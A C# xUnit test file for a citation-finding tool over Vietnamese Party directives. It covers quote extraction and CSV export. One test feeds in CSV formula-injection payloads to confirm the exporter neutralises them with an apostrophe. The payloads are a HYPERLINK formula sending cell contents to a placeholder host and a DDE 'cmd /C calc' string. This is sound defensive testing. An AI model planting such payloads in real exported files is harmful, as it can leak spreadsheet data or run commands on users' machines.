using System.Text;
using DirectiveSearch.Core.Citations;
using DirectiveSearch.Core.Graph;
using DirectiveSearch.Core.Text;
using static DirectiveSearch.Core.Tests.Graph.GraphFixtures;
using static DirectiveSearch.Core.Tests.Graph.SeedWorld;

namespace DirectiveSearch.Core.Tests.Graph;

public sealed class QuoteFinderTests
{
    private static readonly QuoteFinder Finder = new(Knowledge);

    [Fact]
    public void Finds_every_sentence_citing_a_directive_with_a_citation_to_paste()
    {
        var quotes = Finder.For(Kl21);

        Assert.Equal(
            [
                ("000", null, "cites", "Kế hoạch số 28-KH/ĐUK của Đảng ủy Sở",
                    "Thực hiện Kế hoạch số 52-KH/ĐUK ngày 01/3/2022 của Đảng ủy Khối về thực hiện Kế hoạch số 49-KH/TU ngày 27/01/2022 của Tỉnh ủy về thực hiện Kết luận số 21-KL/TW, ngày 25/10/2021 của Ban Chấp hành Trung ương Đảng."),
                ("000", "I", "cites", "Kế hoạch số 28-KH/ĐUK của Đảng ủy Sở, mục I",
                    "Quán triệt Kết luận số 21-KL/TW, ngày 25/10/2021 của Ban Chấp hành Trung ương Đảng về đẩy mạnh xây dựng, chỉnh đốn Đảng và hệ thống chính trị."),
                ("004", "II.1", "cites", "Kế hoạch số 62-KH/ĐUK, ngày 15/8/2022 của Ban Thường vụ Đảng ủy Khối các cơ quan tỉnh, mục II.1",
                    "Tổ chức học tập Kết luận số 21-KL/TW, ngày 25/10/2021 của Ban Chấp hành Trung ương Đảng (sau đây gọi là Kết luận), Quy định số 37-QĐ/TW, ngày 25/10/2021 về những điều đảng viên không được làm."),
                ("004", "II.2", "cites", "Kế hoạch số 62-KH/ĐUK, ngày 15/8/2022 của Ban Thường vụ Đảng ủy Khối các cơ quan tỉnh, mục II.2",
                    "Đưa Kết luận vào sinh hoạt chi bộ, \"nêu gương\" trước."),
            ],
            quotes.Select(q => (q.DocumentId, q.SectionPath, q.Relation, q.Citation, q.Sentence)));
        // The span points at those words in the document as written (line breaks and a list dash aside), and the marks
        // at the words that name KL 21 in the pasted sentence: its symbol, or the defined term "Kết luận".
        Assert.All(quotes, q =>
        {
            var written = Knowledge.Document(q.DocumentId)!.Text[q.SentenceSpan.Start..q.SentenceSpan.End];
            Assert.EndsWith(q.Sentence, ParagraphText.CollapseWhitespace(written), StringComparison.Ordinal);
            Assert.NotEmpty(q.Marks);
            Assert.All(q.Marks, m => Assert.Contains(q.Sentence[m.Start..m.End], new[] { "Kết luận số 21-KL/TW", "Kết luận" }));
        });
    }

    [Fact]
    public void A_document_without_a_symbol_is_cited_by_its_title()
    {
        var quote = Assert.Single(Finder.For(Kh49Of2021));

        Assert.Equal("Kế hoạch “Tổ chức đợt sinh hoạt chính trị về xây dựng, chỉnh đốn Đảng” của Ban Thường vụ Đảng ủy Khối các cơ quan và doanh nghiệp tỉnh", quote.Citation);
        Assert.Equal(GraphRelation.Implements, quote.Relation);
    }

    [Fact]
    public void A_document_never_quotes_itself()
    {
        Assert.Equal(["004"], Finder.For(Kh28).Select(q => q.DocumentId));
        Assert.Equal(["004"], Finder.For("000").Select(q => q.DocumentId)); // the document id of plan 28
        Assert.Empty(Finder.For(Kh62));
        Assert.Empty(Finder.For("kl-99-tw-2021"));
    }

    [Fact]
    public void A_sentence_citing_twice_is_one_quote_with_the_strongest_relation()
    {
        const string text = "Căn cứ Kết luận số 21-KL/TW và để thực hiện Kết luận số 21-KL/TW, ban hành kế hoạch.";
        var finder = new QuoteFinder(new KnowledgeBase(
            [Record("x", text, symbol: "5-KH/TU", issuer: "Tỉnh ủy", date: new DateOnly(2022, 2, 3))],
            [
                CitationsOf(
                    "x",
                    "kh-05-tu-2022",
                    Resolved(Cite(text, 0, "Kết luận số 21-KL/TW"), Kl21, CitationRelation.Basis),
                    Resolved(Cite(text, 1, "Kết luận số 21-KL/TW", occurrence: 1), Kl21, CitationRelation.Implements)),
            ]));

        var quote = Assert.Single(finder.For(Kl21));

        Assert.Equal(GraphRelation.Implements, quote.Relation);
        Assert.Equal("Kế hoạch số 5-KH/TU, ngày 03/02/2022 của Tỉnh ủy", quote.Citation);
        Assert.Equal(text, quote.Sentence);
    }

    [Fact]
    public void Csv_has_a_header_and_quotes_commas_quotes_and_line_breaks()
    {
        Quote[] quotes =
        [
            new("a", null, "Thực hiện Kết luận số 21-KL/TW.", "Kế hoạch số 62-KH/ĐUK", "implements", new TextSpan(0, 1)),
            new("b", "II.1", "Đưa Kết luận vào sinh hoạt, \"nêu gương\" trước.", "Kế hoạch số 62-KH/ĐUK, ngày 15/8/2022 của Ban Thường vụ, mục II.1", "cites", new TextSpan(0, 1)),
            new("c", "I", "dòng một\ndòng hai", " lề ", "basis", new TextSpan(0, 1)),
        ];

        var csv = QuoteFinder.ToCsv(quotes);

        Assert.Equal(
            "document_id,section,relation,citation,sentence\r\n" +
            "a,,implements,Kế hoạch số 62-KH/ĐUK,Thực hiện Kết luận số 21-KL/TW.\r\n" +
            "b,II.1,cites,\"Kế hoạch số 62-KH/ĐUK, ngày 15/8/2022 của Ban Thường vụ, mục II.1\",\"Đưa Kết luận vào sinh hoạt, \"\"nêu gương\"\" trước.\"\r\n" +
            "c,I,basis,\" lề \",\"dòng một\ndòng hai\"\r\n",
            csv);
        Assert.Equal(
            [
                ["document_id", "section", "relation", "citation", "sentence"],
                ["a", "", "implements", quotes[0].Citation, quotes[0].Sentence],
                ["b", "II.1", "cites", quotes[1].Citation, quotes[1].Sentence],
                ["c", "I", "basis", quotes[2].Citation, quotes[2].Sentence],
            ],
            ParseCsv(csv));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào đây\")")]
    [InlineData("+84 ngày")]
    [InlineData("-1+2")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_an_apostrophe(string sentence)
    {
        Quote[] quotes = [new("=cmd|' /C calc'!A0", "@II", sentence, "-Kế hoạch", "+cites", new TextSpan(0, 1))];

        var row = ParseCsv(QuoteFinder.ToCsv(quotes))[1];

        Assert.Equal(["'=cmd|' /C calc'!A0", "'@II", "'+cites", "'-Kế hoạch", "'" + sentence], row);
    }

    [Fact]
    public void Csv_cells_that_only_contain_formula_characters_later_are_kept_as_written()
    {
        Quote[] quotes = [new("a", "II.1", "Tổng = 5 + 3 - 1 @ tỉnh", "Kế hoạch số 62-KH/ĐUK", "cites", new TextSpan(0, 1))];

        Assert.Equal("a,II.1,cites,Kế hoạch số 62-KH/ĐUK,Tổng = 5 + 3 - 1 @ tỉnh\r\n", QuoteFinder.ToCsv(quotes).Split("\r\n", 2)[1]);
    }

    [Fact]
    public void Csv_of_the_seed_quotes_reads_back_field_for_field()
    {
        var quotes = Finder.For(Kl21);

        var rows = ParseCsv(QuoteFinder.ToCsv(quotes));

        Assert.Equal(quotes.Count + 1, rows.Count);
        // A sentence read as a formula comes back with the apostrophe that neutralises it, and is otherwise the same.
        Assert.Equal(quotes.Select(q => q.Sentence), rows.Skip(1).Select(r => r[4].StartsWith("'-", StringComparison.Ordinal) ? r[4][1..] : r[4]));
        Assert.Equal(quotes.Select(q => q.Citation), rows.Skip(1).Select(r => r[3]));
    }

    [Fact]
    public void Csv_file_starts_with_a_byte_order_mark_for_spreadsheets()
    {
        var quotes = Finder.For(Kl21);
        using var stream = new MemoryStream();

        QuoteFinder.WriteCsv(quotes, stream);

        var bytes = stream.ToArray();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.Equal(QuoteFinder.ToCsv(quotes), Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3));
    }

    /// <summary>An RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks.</summary>
    private static List<string[]> ParseCsv(string csv)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                    field.Append(csv[++i]);
                else if (c == '"')
                    quoted = false;
                else
                    field.Append(c);
            }
            else if (c == '"')
            {
                Assert.Equal(0, field.Length); // a quote opens a field or nothing
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r')
            {
                Assert.Equal('\n', csv[++i]);
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
            }
            else
            {
                Assert.NotEqual('\n', c); // a bare line break only inside quotes
                field.Append(c);
            }
        }

        Assert.False(quoted);
        Assert.Empty(row);
        return rows;
    }
}
